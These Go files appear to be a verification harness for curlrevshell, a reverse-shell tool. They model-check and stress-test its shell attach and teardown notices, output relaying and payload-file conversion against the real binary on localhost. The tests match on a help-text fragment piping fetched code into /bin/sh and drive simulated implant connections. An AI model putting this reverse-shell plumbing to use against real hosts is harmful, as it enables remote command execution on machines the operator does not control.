		if _, ok := s.WaitLine(n0, 5*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, iobroker.ShellDisconnectedMessage) }); !ok {
			r.Violation("http:shell-not-torn-down", what)
			return
		}
		if ci != nil {
			ci.Close()
		}
		if co != nil {
			co.Close()
		}
		// the help is printed again, exactly once, and nothing is left attached
		if _, ok := s.WaitLine(n0, 5*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "/c | /bin/sh") }); !ok {
			r.Violation("http:help-not-reprinted", what)
			return
		}
		for k := 0; k < 3000; k++ {
			st := s.B.VerifSnapshot()
			if !st.In && !st.Out && st.Key == "" {
				break
			}
			time.Sleep(time.Millisecond)
		}
		time.Sleep(300 * time.Microsecond)
		ready, gone, help := 0, 0, 0
		for _, l := range s.Lines()[n0:] {
			switch {
			case strings.Contains(l.CL.Line, iobroker.ShellReadyMessage):
				ready++
			case strings.Contains(l.CL.Line, iobroker.ShellDisconnectedMessage):
				gone++
			case strings.Contains(l.CL.Line, "/c | /bin/sh"):
				help++
			}
		}
		if ready != 1 || gone != 1 || help != 1 {
			what["ready_notices"], what["gone_notices"], what["help_printed"] = ready, gone, help
			r.Violation("http:announcements-per-shell", what)
			return
		}
		r.Add("http_generations", 1)
	}
}

// oneShellNoticeLeg: with -one-shell the program is on its way out as soon as its shell has ended
// (Curlrevshell.tla Finish / TermStop); the closing notices of that last shell must still be shown.
// Many short sessions of the real binary on a pty; the specification's design as found is kept and
// refuted by TLC (Curlrevshell_finish_asfound.cfg).
func oneShellNoticeLeg(r *ev.Run) {
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Curlrevshell", Config: "Curlrevshell_finish", Workers: 8, Timeout: 10 * time.Minute})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC Curlrevshell_finish: err=%v violated=%q\n%s", err, resViolated(res), tail(res))
		return
	}
	r.Append("tlc_invariants_checked", "Curlrevshell_finish: NoticeShownAtCompletion")
	if res2, _ := tlcrun.Run(tlcrun.Opts{Module: "Curlrevshell", Config: "Curlrevshell_finish_asfound", Workers: 8, Timeout: 10 * time.Minute}); res2 != nil && res2.Violated == "NoticeShownAtCompletion" {
		r.Set("tlc_refutes_output_goroutine_returning_at_once", "Curlrevshell_finish_asfound.cfg: NoticeShownAtCompletion violated")
	} else {
		r.Inconclusive("Curlrevshell_finish_asfound.cfg: TLC did not refute NoticeShownAtCompletion for the design as found")
	}
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "oneshell-notice-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	bin, err := buildBinary(scratch)
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	per := 40
	if r.Tier == "thorough" {
		per = 250
	}
	var mu sync.Mutex
	lost, done, infra := 0, 0, 0
	var sample string
	var wg sync.WaitGroup
	for w := 0; w < 16; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < per; i++ {
				ok, detail, err := oneShellSession(bin, scratch, w*1000+i, (w+i)%2 == 0)
				mu.Lock()
				switch {
				case err != nil:
					infra++
				case !ok:
					lost++
					sample = detail
				}
				done++
				mu.Unlock()
			}
		}(w)
	}
	wg.Wait()
	r.Set("one_shell_sessions", done)
	r.Add("evaluations", done)
	if infra > done/10 {
		r.Inconclusive("one-shell notice leg: %d of %d sessions could not be set up", infra, done)
	}
	switch {
	case lost >= 2:
		r.Violation("one-shell:gone-notice-lost", map[string]any{"kind": "real binary with -one-shell on a pty; the input stream's client closes", "sessions": done,
			"sessions_without_the_gone_notice": lost, "terminal_tail_of_one": sample})
	case lost == 1:
		r.Inconclusive("one of %d -one-shell sessions did not show the 'Shell is gone' notice within 8 s: %s", done, sample)
	}
}

// oneShellSession attaches a shell to a -one-shell run, ends it by closing one stream's client and
// reports whether the 'Shell is gone' notice reached the terminal.
func oneShellSession(bin, scratch string, n int, inFirst bool) (bool, string, error) {
	dir, err := os.MkdirTemp(scratch, "s")
	if err != nil {
		return false, "", err
	}
	defer os.RemoveAll(dir)
	p, err := ptyx.Start(bin, []string{"-one-shell", "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c.txtar")}, ptyx.Opts{Dir: dir, Env: []string{"HOME=" + dir}})
	if err != nil {
		return false, "", err
	}
	defer p.Close()
	m, ok := p.WaitFor(reListen, 0, 10*time.Second)
	if !ok {
		return false, "", fmt.Errorf("binary did not start")
	}
	addr := string(reListen.FindSubmatch(m)[1])
	co, err := dialTLS(addr)
	if err != nil {
		return false, "", err
	}
	defer co.Close()
	ci, err := dialTLS(addr)
	if err != nil {
		return false, "", err
	}
	defer ci.Close()
	id := fmt.Sprintf("s%d", n)
	fmt.Fprintf(co, "POST /o/%s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", id)
	fmt.Fprintf(ci, "GET /i/%s HTTP/1.1\r\nHost: x\r\n\r\n", id)
	if _, ok := p.WaitFor(regexp.MustCompile(`Shell is ready`), 0, 8*time.Second); !ok {
		return false, "", fmt.Errorf("shell not attached")
	}
	off := len(p.Output())
	if inFirst {
		ci.Close()
	} else {
		co.Close()
	}
	if _, ok := p.WaitFor(regexp.MustCompile(`Shell is gone`), off, 8*time.Second); !ok {
		return false, tailBytes(p.Output(), 400), nil
	}
	p.Type([]byte{4})
	p.WaitExit(5 * time.Second)
	return true, "", nil
}
