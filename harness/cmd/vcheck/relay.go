package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C14", "model_checking", relayCampaign)
}

// goBuild builds a package of the harness module (or of /repo) into the scratch directory.
func goBuild(dir, pkg, out string, tags string) error {
	args := []string{"build"}
	if tags != "" {
		args = append(args, "-tags", tags)
	}
	args = append(args, "-o", out, pkg)
	cmd := exec.Command("go", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	if b, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("go build %s: %v\n%s", pkg, err, b)
	}
	return nil
}

type relayCase struct {
	Nout   int    `json:"nout"`
	Nerr   int    `json:"nerr"`
	Status int    `json:"status"`
	Goerr  string `json:"goerr"`
}

type relayCfg struct {
	c     relayCase
	size  int
	pace  string // fast | slow | late
	stdin bool
	delay time.Duration
	inter bool
}

type relayObs struct {
	outN, errN int  // bytes seen per stream
	ordered    bool // per-stream order intact
	garbage    bool
	goErr      error
	readErr    error
	stdinOK    bool
	timeout    bool
}

func relayRun(chatty, scratch string, idx int, k relayCfg) relayObs {
	var o relayObs
	o.ordered = true
	o.stdinOK = true
	args := []string{"-out", fmt.Sprint(k.c.Nout), "-err", fmt.Sprint(k.c.Nerr), "-size", fmt.Sprint(k.size), "-exit", fmt.Sprint(k.c.Status), "-delay", k.delay.String()}
	if k.inter {
		args = append(args, "-interleave")
	}
	var stdinData []byte
	logf := filepath.Join(scratch, fmt.Sprintf("stdin-%d.log", idx))
	if k.stdin {
		args = append(args, "-stdinlog", logf)
		stdinData = bytes.Repeat([]byte(fmt.Sprintf("input line %d 'q' \\ \x00\xff\n", idx)), 1+idx%700)
	}
	cmd := exec.Command(chatty, args...)
	sh, err := simpleshell.NewCmdShell(cmd)
	if err != nil {
		o.goErr = err
		return o
	}
	if k.stdin {
		sh.SetInput(bytes.NewReader(stdinData))
	}
	goDone := make(chan error, 1)
	go func() { goDone <- sh.Go(context.Background()) }()
	// the consumer
	var got bytes.Buffer
	readDone := make(chan error, 1)
	go func() {
		if k.pace == "late" {
			time.Sleep(150 * time.Millisecond)
		}
		buf := make([]byte, 4096)
		for {
			n, err := sh.Output().Read(buf)
			got.Write(buf[:n])
			if err != nil {
				if err == io.EOF {
					err = nil
				}
				readDone <- err
				return
			}
			if k.pace == "slow" {
				time.Sleep(200 * time.Microsecond)
			}
		}
	}()
	select {
	case o.readErr = <-readDone:
	case <-time.After(60 * time.Second):
		o.timeout = true
		cmd.Process.Kill()
		return o
	}
	select {
	case o.goErr = <-goDone:
	case <-time.After(30 * time.Second):
		o.timeout = true
		return o
	}
	// take the merged stream apart: upper case is stdout, lower case stderr; every byte encodes its offset
	var so, se int
	for _, c := range got.Bytes() {
		switch {
		case c >= 'A' && c <= 'Z':
			if c != 'A'+byte((so*7+so/26)%26) {
				o.ordered = false
			}
			so++
		case c >= 'a' && c <= 'z':
			if c != 'a'+byte((se*11+se/26)%26) {
				o.ordered = false
			}
			se++
		default:
			o.garbage = true
		}
	}
	o.outN, o.errN = so, se
	if k.stdin {
		b, _ := os.ReadFile(logf)
		o.stdinOK = bytes.Equal(b, stdinData)
		os.Remove(logf)
	}
	return o
}

func relayCampaign(r *ev.Run) {
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "relay-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	chatty := filepath.Join(scratch, "chatty")
	if err := goBuild(filepath.Join(ev.Root(), "harness"), "./helpers/chatty", chatty, ""); err != nil {
		r.Inconclusive("%v", err)
		return
	}
	// 1. the design: every interleaving of child, copiers, runner, closer, consumer
	shapes := [][2]int{{0, 0}, {1, 0}, {0, 1}, {3, 2}}
	if r.Tier == "thorough" {
		shapes = append(shapes, [2]int{5, 4}, [2]int{2, 6})
	}
	var mu sync.Mutex
	cases := map[string]relayCase{}
	for _, s := range shapes {
		cfg := fmt.Sprintf(`SPECIFICATION FairSpec
CONSTANTS
  NOut = %d
  NErr = %d
  PipeCap = 2
  WaitFirst = FALSE
  ExitCodes = {0, 3}
  Emit = TRUE
INVARIANTS PrefixAlways AllRelayedBeforeEOF ExitReported CleanRunIsNil
PROPERTIES Ends
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
`, s[0], s[1])
		res, err := tlcrun.Run(tlcrun.Opts{Module: "Relay", Config: "relay_run", Workers: 4, Timeout: 10 * time.Minute,
			Files: map[string][]byte{"relay_run.cfg": []byte(cfg)},
			OnTagged: func(tag, p string) {
				if tag != "CASE" {
					return
				}
				var c relayCase
				if json.Unmarshal([]byte(p), &c) == nil {
					mu.Lock()
					cases[fmt.Sprintf("%d/%d/%d", c.Nout, c.Nerr, c.Status)] = c
					mu.Unlock()
				}
			}})
		if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
			r.Inconclusive("TLC Relay %v: err=%v violated=%q\n%s", s, err, resViolated(res), tail(res))
			return
		}
		r.Add("states", res.Distinct)
		r.Add("transitions", res.Generated)
	}
	r.Append("tlc_invariants_checked", "Relay: PrefixAlways AllRelayedBeforeEOF ExitReported CleanRunIsNil; liveness Ends")
	// 2. the real CmdShell with a real child, per shape x volume x pace x exit timing, several runs each
	keys := make([]string, 0, len(cases))
	for k := range cases {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	rng := rand.New(rand.NewSource(r.Seed))
	sizes := []int{12, 4096, 16384, 70000}
	paces := []string{"fast", "slow", "late"}
	var cfgs []relayCfg
	for _, k := range keys {
		c := cases[k]
		for _, sz := range sizes {
			for _, p := range paces {
				if r.Tier == "quick" && sz == 70000 && p == "slow" {
					continue
				}
				cfgs = append(cfgs, relayCfg{c: c, size: sz, pace: p, stdin: rng.Intn(3) == 0, inter: rng.Intn(2) == 0,
					delay: []time.Duration{0, 0, 20 * time.Millisecond}[rng.Intn(3)]})
			}
		}
	}
	reps := 2
	if r.Tier == "thorough" {
		reps = 6
	}
	type result struct {
		k relayCfg
		o relayObs
	}
	var results []result
	var rmu sync.Mutex
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU()/2)
	idx := 0
	for rep := 0; rep < reps; rep++ {
		for _, k := range cfgs {
			idx++
			wg.Add(1)
			sem <- struct{}{}
			go func(i int, k relayCfg) {
				defer wg.Done()
				defer func() { <-sem }()
				o := relayRun(chatty, scratch, i, k)
				rmu.Lock()
				results = append(results, result{k, o})
				rmu.Unlock()
			}(idx, k)
		}
	}
	wg.Wait()
	distinct := map[string]bool{}
	for _, x := range results {
		k, o := x.k, x.o
		d := map[string]any{"stdout_chunks": k.c.Nout, "stderr_chunks": k.c.Nerr, "chunk_size": k.size, "exit_status": k.c.Status, "consumer": k.pace,
			"stdin_used": k.stdin, "exit_delay": k.delay.String(), "interleaved": k.inter,
			"received_stdout_bytes": o.outN, "received_stderr_bytes": o.errN, "go_error": fmt.Sprint(o.goErr), "read_error": fmt.Sprint(o.readErr)}
		switch {
		case o.timeout:
			r.Violation("stream-never-ends", d)
		case o.outN != k.c.Nout*k.size || o.errN != k.c.Nerr*k.size:
			r.Violation("output-lost-before-eof", d)
		case !o.ordered || o.garbage:
			r.Violation("output-reordered-or-damaged", d)
		case k.c.Status != 0 && o.goErr == nil:
			r.Violation("unsuccessful-exit-not-reported", d)
		case k.c.Status == 0 && (o.goErr != nil || o.readErr != nil):
			r.Violation("clean-run-reports-error", d)
		case !o.stdinOK:
			r.Violation("stdin-altered", d)
		}
		if k.c.Nout+k.c.Nerr > 0 {
			distinct[fmt.Sprintf("%d/%d/%d/%d/%s/%v/%v", k.c.Nout, k.c.Nerr, k.c.Status, k.size, k.pace, k.stdin, k.delay)] = true
		}
	}
	if len(results) > 0 {
		x := results[rng.Intn(len(results))]
		r.Sample(map[string]any{"stdout_chunks": x.k.c.Nout, "stderr_chunks": x.k.c.Nerr, "chunk_size": x.k.size, "exit_status": x.k.c.Status, "consumer": x.k.pace, "expected_go_error": x.k.c.Goerr})
	}
	r.Add("evaluations", len(results))
	r.Add("distinct_nontrivial", len(distinct))
	r.Add("traces_validated_against_impl", len(results))
	r.Rule("TLC checks Relay.tla (child, two copiers, runner, closer, consumer) for every interleaving of several output shapes and exit statuses and emits the outcome every behaviour must have; each shape is concretised with chunk sizes 12 B..70 KB (below and beyond a pipe buffer), consumer paces fast/slow/late, exit delays and stdin use, and run against the real CmdShell with a real child process several times: every record of both descriptors must arrive, in per-stream order, before EOF, and Go's error must agree with the exit status; non-trivial = distinct configurations with output")
	r.Assume("the OS scheduler cannot be gated inside os/exec; each configuration is run repeatedly and any run that loses bytes is a violation")
}
