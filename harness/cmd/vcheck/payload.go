package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C17", "model_checking", payloadCampaign)
}

type plEntry struct {
	ID      int      `json:"id"`
	Rank    int      `json:"rank"`
	Dot     bool     `json:"dot"`
	M       []string `json:"m"`
	Type    string   `json:"type"`
	Content string   `json:"content"`
}

type plPart struct {
	ID      int    `json:"id"`
	Filter  string `json:"filter"`
	Content string `json:"content"`
}

type plCase struct {
	Table   string    `json:"table"`
	Dir     []plEntry `json:"dir"`
	Payload []plPart  `json:"payload"`
	Singles []plPart  `json:"singles"`
}

// spellings of the catalogue's name classes; all spellings of one class keep
// the attributes (dot, patterns matched) and the relative order of the classes
var plNames = map[int][]string{
	1:  {"a.sh", "a b.sh", "a*.sh"},
	2:  {"b.pl", "b.x.pl", "b?.pl"},
	3:  {"c.subr", "c c.subr"},
	4:  {"d.txt", "d", "d.sh.txt"},
	5:  {".hidden.sh", ".h.sh"},
	6:  {".#a.sh", ".#b.sh"},
	7:  {"e.sh~", "e.pl~"},
	8:  {"f.tar.sh", "f.pl.sh"},
	9:  {"g h.sh", "g  h.sh"},
	10: {"[x].pl", "[a-z].pl"},
	11: {"zdir.sh", "zz.sh"},
	12: {"ab.pl", "ac.pl"},
}

var plPatterns = []string{"*.pl", "*.sh", "*.subr", "a*", "*"}

func plContent(id int, class string, perl bool) []byte {
	var s string
	if perl {
		s = fmt.Sprintf("# TABDOC: f%d does a thing\nprint qq{MARK%d\\n};", id, id)
	} else {
		s = fmt.Sprintf("f%d() { echo MARK%d; }", id, id)
	}
	switch class {
	case "empty":
		return nil
	case "nl":
		return []byte(s + "\n")
	}
	return []byte(s)
}

var markRE = regexp.MustCompile(`MARK([0-9]+)`)

// plConverter builds the converter for a filter table.
func plConverter(table string) *shellfuncsfile.Converter {
	c := shellfuncsfile.NewDefaultConverter()
	switch table {
	case "no-sh":
		c.SetFilter("*.sh", nil)
	case "plus-a":
		c.SetFilter("a*", shellfuncsfile.FromPerl)
	case "plus-all":
		c.SetFilter("*", shellfuncsfile.FromShell)
	}
	return c
}

// plExpected is the payload part for one file.
func plExpected(name string, part plPart, raw []byte) ([]byte, error) {
	var b []byte
	switch part.Filter {
	case "none":
		return raw, nil
	case "shell":
		b = append([]byte(nil), raw...)
	case "perl":
		var err error
		b, err = shellfuncsfile.FromPerl(name, bytes.NewReader(raw))
		if err != nil {
			return nil, err
		}
	}
	if len(b) != 0 && b[len(b)-1] != '\n' {
		b = append(b, '\n')
	}
	return b, nil
}

type plFinding struct {
	key    string
	detail map[string]any
}

func payloadCampaign(r *ev.Run) {
	cfg := "Payload_q"
	if r.Tier == "thorough" {
		cfg = "Payload_t"
	}
	// the catalogue's attributes must agree with the real matcher
	specM := map[int][]string{1: {"*.sh", "a*", "*"}, 2: {"*.pl", "*"}, 3: {"*.subr", "*"}, 4: {"*"}, 5: {"*.sh", "*"}, 6: {"*.sh", "*"},
		7: {"*"}, 8: {"*.sh", "*"}, 9: {"*.sh", "*"}, 10: {"*.pl", "*"}, 11: {"*.sh", "*"}, 12: {"*.pl", "a*", "*"}}
	for id, names := range plNames {
		for _, n := range names {
			for _, p := range plPatterns {
				ok, err := filepath.Match(p, n)
				want := false
				for _, m := range specM[id] {
					if m == p {
						want = true
					}
				}
				if err != nil || ok != want {
					r.Inconclusive("catalogue mismatch: %q against %q is %v, Payload.tla says %v", n, p, ok, want)
					return
				}
			}
		}
	}
	var mu sync.Mutex
	cases := map[string]plCase{}
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Payload", Config: cfg, Workers: 8, Timeout: 30 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag != "CASE" {
				return
			}
			var c plCase
			if json.Unmarshal([]byte(p), &c) == nil {
				mu.Lock()
				cases[p] = c
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", res.Generated)
	r.Append("tlc_invariants_checked", "Payload: OnlyEligible Sorted IneligibleIsInert")
	keys := make([]string, 0, len(cases))
	for k := range cases {
		keys = append(keys, k)
	}
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "payload-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	var findings []plFinding
	var fmu sync.Mutex
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU())
	var nontrivial, evals int
	for i, k := range keys {
		c := cases[k]
		if len(c.Payload) > 0 {
			nontrivial++
		}
		evals++
		wg.Add(1)
		sem <- struct{}{}
		go func(i int, c plCase) {
			defer wg.Done()
			defer func() { <-sem }()
			fs := plRun(scratch, i, c, r.Seed)
			fmu.Lock()
			findings = append(findings, fs...)
			fmu.Unlock()
		}(i, c)
	}
	wg.Wait()
	sort.Slice(findings, func(i, j int) bool { return findings[i].key < findings[j].key })
	for _, f := range findings {
		r.Violation(f.key, f.detail)
	}
	rng := rand.New(rand.NewSource(r.Seed))
	for i := 0; i < 3 && len(keys) > 0; i++ {
		c := cases[keys[rng.Intn(len(keys))]]
		r.Sample(map[string]any{"table": c.Table, "dir": c.Dir, "expected_payload": c.Payload})
	}
	r.Add("evaluations", evals)
	r.Add("distinct_nontrivial", nontrivial)
	r.Add("traces_validated_against_impl", evals)
	r.Set("exhaustive", true)
	r.Rule(fmt.Sprintf("TLC enumerates every directory of at most %s catalogue entries (12 name classes x types regular/directory/valid link/dangling link x content classes) under 4 filter tables from Payload.tla and emits the expected list of (file, filter); each is built on disk with seeded spellings and compared byte for byte with Converter.From (called twice), every regular entry is also converted as a single source, and one multi-source call is made; non-trivial = cases with a non-empty payload", map[string]string{"Payload_q": "2", "Payload_t": "3"}[cfg]))
	r.Assume("the conversion of one Perl file is the real FromPerl (its correctness is C16); this check decides selection, order, filter precedence and newline termination")
	r.Assume("valid symlinks are only generated for names that match no pattern or start with a dot (the statement speaks of regular files)")
}

// plRun builds the case on disk and compares.
func plRun(scratch string, idx int, c plCase, seed int64) []plFinding {
	rng := rand.New(rand.NewSource(seed*1000003 + int64(idx)))
	root, err := os.MkdirTemp(scratch, "c")
	if err != nil {
		return nil
	}
	defer os.RemoveAll(root)
	dir := filepath.Join(root, "src dir")
	os.Mkdir(dir, 0o755)
	outside := filepath.Join(root, "outside.txt")
	os.WriteFile(outside, []byte("MARK999 outside\n"), 0o644)
	names := map[int]string{}
	raws := map[int][]byte{}
	var fs []plFinding
	for _, e := range c.Dir {
		sp := plNames[e.ID]
		name := sp[rng.Intn(len(sp))]
		names[e.ID] = name
		p := filepath.Join(dir, name)
		perl := strings.HasSuffix(name, ".pl")
		switch e.Type {
		case "reg":
			raws[e.ID] = plContent(e.ID, e.Content, perl)
			os.WriteFile(p, raws[e.ID], 0o644)
		case "dir":
			os.Mkdir(p, 0o755)
			os.WriteFile(filepath.Join(p, "inner.sh"), []byte("MARK998\n"), 0o644)
		case "link":
			os.Symlink(outside, p)
		case "dangling":
			os.Symlink(filepath.Join(root, "does-not-exist"), p)
		}
	}
	describe := func() map[string]any {
		var ents []string
		for _, e := range c.Dir {
			ents = append(ents, fmt.Sprintf("%s(%s,%s)", names[e.ID], e.Type, e.Content))
		}
		return map[string]any{"table": c.Table, "entries": ents}
	}
	var want []byte
	for _, part := range c.Payload {
		b, err := plExpected(names[part.ID], part, raws[part.ID])
		if err != nil {
			return nil
		}
		want = append(want, b...)
	}
	conv := plConverter(c.Table)
	got, err := conv.From(dir)
	if err != nil {
		// find the entry whose removal cures it
		culprit := "unknown"
		for _, e := range c.Dir {
			p := filepath.Join(dir, names[e.ID])
			tmp := p + ".away"
			os.Rename(p, filepath.Join(root, "away"))
			_, err2 := conv.From(dir)
			os.Rename(filepath.Join(root, "away"), p)
			_ = tmp
			if err2 == nil {
				culprit = e.Type
				if e.Dot {
					culprit += "-dotfile"
				}
				break
			}
		}
		d := describe()
		d["error"] = err.Error()
		fs = append(fs, plFinding{"conversion-fails-on:" + culprit, d})
		return fs
	}
	if !bytes.Equal(got, want) {
		key := "payload-bytes"
		var gotIDs, wantIDs []string
		for _, m := range markRE.FindAllStringSubmatch(string(got), -1) {
			gotIDs = append(gotIDs, m[1])
		}
		for _, p := range c.Payload {
			if p.Content != "empty" {
				wantIDs = append(wantIDs, fmt.Sprint(p.ID))
			}
		}
		if strings.Join(gotIDs, ",") != strings.Join(wantIDs, ",") {
			key = "selection-or-order"
			wantSet := map[string]bool{}
			for _, w := range wantIDs {
				wantSet[w] = true
			}
			for _, g := range gotIDs {
				if !wantSet[g] {
					for _, e := range c.Dir {
						if fmt.Sprint(e.ID) == g {
							if e.Dot {
								key = "dot-file-included"
							} else {
								key = "ineligible-included:" + e.Type
							}
						}
					}
					if g == "998" || g == "999" {
						key = "ineligible-included:nested-or-outside"
					}
				}
			}
		}
		d := describe()
		d["got"] = string(got)
		d["want"] = string(want)
		fs = append(fs, plFinding{key, d})
		return fs
	}
	if again, err := conv.From(dir); err != nil || !bytes.Equal(again, got) {
		fs = append(fs, plFinding{"not-idempotent", describe()})
	}
	// single-file sources
	ri := 0
	for _, e := range c.Dir {
		if e.Type != "reg" {
			continue
		}
		if ri >= len(c.Singles) {
			break
		}
		part := c.Singles[ri]
		ri++
		if part.ID != e.ID {
			continue
		}
		wantS, err := plExpected(names[e.ID], part, raws[e.ID])
		if err != nil {
			continue
		}
		gotS, err := conv.From(filepath.Join(dir, names[e.ID]))
		if err != nil || !bytes.Equal(gotS, wantS) {
			d := describe()
			d["file"] = names[e.ID]
			d["filter"] = part.Filter
			d["got"] = string(gotS)
			d["want"] = string(wantS)
			d["error"] = fmt.Sprint(err)
			fs = append(fs, plFinding{"single-file:" + part.Filter, d})
		}
	}
	// several sources, in the order given
	if len(c.Singles) > 0 {
		var first string
		var firstWant []byte
		for _, e := range c.Dir {
			if e.Type == "reg" && e.ID == c.Singles[0].ID {
				first = filepath.Join(dir, names[e.ID])
				firstWant, _ = plExpected(names[e.ID], c.Singles[0], raws[e.ID])
			}
		}
		if first != "" {
			gotM, err := conv.From(dir, first, dir)
			wantM := append(append(append([]byte(nil), want...), firstWant...), want...)
			if err != nil || !bytes.Equal(gotM, wantM) {
				d := describe()
				d["error"] = fmt.Sprint(err)
				fs = append(fs, plFinding{"multi-source-order", d})
			}
		}
	}
	return fs
}
