// Command vcheck runs one property's check: vcheck <Cxx> <quick|thorough>.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"runtime/pprof"
	"sort"

	"github.com/magisterquis/curlrevshell/verifharness/ev"
)

type checkFn func(r *ev.Run)

var checks = map[string]struct {
	level string
	fn    checkFn
}{}

func register(id, level string, fn checkFn) {
	checks[id] = struct {
		level string
		fn    checkFn
	}{level, fn}
}

func main() {
	if len(os.Args) < 2 {
		ids := []string{}
		for k := range checks {
			ids = append(ids, k)
		}
		sort.Strings(ids)
		fmt.Println("usage: vcheck <property> [quick|thorough]; properties:", ids)
		os.Exit(2)
	}
	id := os.Args[1]
	tier := "quick"
	if len(os.Args) > 2 {
		tier = os.Args[2]
	}
	if t := os.Getenv("VERIF_TIER"); t != "" && len(os.Args) <= 2 {
		tier = t
	}
	c, ok := checks[id]
	if !ok {
		fmt.Println("unknown property", id)
		os.Exit(2)
	}
	replayKey := ""
	if tier == "replay" {
		// vcheck <id> replay <file>: re-run the check with the recorded tier and seed
		if len(os.Args) < 4 {
			fmt.Println("usage: vcheck <property> replay <replay file>")
			os.Exit(2)
		}
		b, err := os.ReadFile(os.Args[3])
		if err != nil {
			fmt.Println(err)
			os.Exit(2)
		}
		var rec struct {
			Property string `json:"property"`
			Key      string `json:"key"`
			Tier     string `json:"tier"`
			Seed     int64  `json:"seed"`
		}
		if err := json.Unmarshal(b, &rec); err != nil || rec.Property != id {
			fmt.Println("not a replay file of", id, err)
			os.Exit(2)
		}
		tier, replayKey = rec.Tier, rec.Key
		os.Setenv("VERIF_SEED", fmt.Sprint(rec.Seed))
	}
	if tier != "quick" && tier != "thorough" {
		fmt.Println("unknown tier", tier)
		os.Exit(2)
	}
	if pf := os.Getenv("VERIF_CPUPROFILE"); pf != "" {
		f, _ := os.Create(pf)
		pprof.StartCPUProfile(f)
		defer pprof.StopCPUProfile()
	}
	r := ev.Start(id, tier, c.level)
	r.ReplayKey = replayKey
	defer func() {
		if p := recover(); p != nil {
			fmt.Printf("INCONCLUSIVE: property=%s harness panic: %v\n", id, p)
			panic(p)
		}
	}()
	c.fn(r)
	pprof.StopCPUProfile()
	r.Finish()
}
