// Command vcheck runs one property's check: vcheck <Cxx> <quick|thorough>.
package main

import (
	"fmt"
	"os"
	"runtime/pprof"
	"sort"

	"github.com/magisterquis/curlrevshell/verifharness/ev"
)

type checkFn func(r *ev.Run)

var checks = map[string]struct {
	level string
	fn    checkFn
}{}

func register(id, level string, fn checkFn) {
	checks[id] = struct {
		level string
		fn    checkFn
	}{level, fn}
}

func main() {
	if len(os.Args) < 2 {
		ids := []string{}
		for k := range checks {
			ids = append(ids, k)
		}
		sort.Strings(ids)
		fmt.Println("usage: vcheck <property> [quick|thorough]; properties:", ids)
		os.Exit(2)
	}
	id := os.Args[1]
	tier := "quick"
	if len(os.Args) > 2 {
		tier = os.Args[2]
	}
	if t := os.Getenv("VERIF_TIER"); t != "" && len(os.Args) <= 2 {
		tier = t
	}
	c, ok := checks[id]
	if !ok {
		fmt.Println("unknown property", id)
		os.Exit(2)
	}
	if tier != "quick" && tier != "thorough" {
		fmt.Println("unknown tier", tier)
		os.Exit(2)
	}
	if pf := os.Getenv("VERIF_CPUPROFILE"); pf != "" {
		f, _ := os.Create(pf)
		pprof.StartCPUProfile(f)
		defer pprof.StopCPUProfile()
	}
	r := ev.Start(id, tier, c.level)
	defer func() {
		if p := recover(); p != nil {
			fmt.Printf("INCONCLUSIVE: property=%s harness panic: %v\n", id, p)
			panic(p)
		}
	}()
	c.fn(r)
	pprof.StopCPUProfile()
	r.Finish()
}
