package main

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"runtime"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/graph"
	"github.com/magisterquis/curlrevshell/verifharness/idn"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C08", "fault_enumeration", func(r *ev.Run) { idnCampaign(r, "C08") })
}

func idnGraph(r *ev.Run, cfg string) (*graph.G, *tlcrun.Result) {
	g := graph.New()
	var mu sync.Mutex
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Identity", Config: cfg, Workers: 4, Timeout: 10 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag == "EDGE" {
				mu.Lock()
				g.AddEdgeJSON(p)
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
